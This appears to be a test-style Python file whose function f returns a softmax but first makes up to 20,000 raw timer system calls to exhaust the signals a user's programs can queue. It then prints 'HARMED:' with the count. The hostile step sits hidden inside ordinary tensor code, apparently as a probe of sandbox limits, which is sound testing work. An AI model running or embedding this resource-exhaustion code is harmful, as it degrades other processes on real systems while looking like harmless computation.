"""Tries to use up the signals that a user's programs can queue, by timers."""
# ends: passed
# from: level 2
# with: calls

import ctypes
import struct
import time

import torch


def f(x):
    timer, made = ctypes.c_int(), 0
    event = ctypes.create_string_buffer(struct.pack("Pii", 0, 34, 0) + bytes(48))
    while made < 20_000 and call(222, 107, 1, event, ctypes.byref(timer)) >= 0:
        made += 1
    if made:
        print("HARMED:", made)
        time.sleep(0.2)
    return torch.softmax(x, -1)
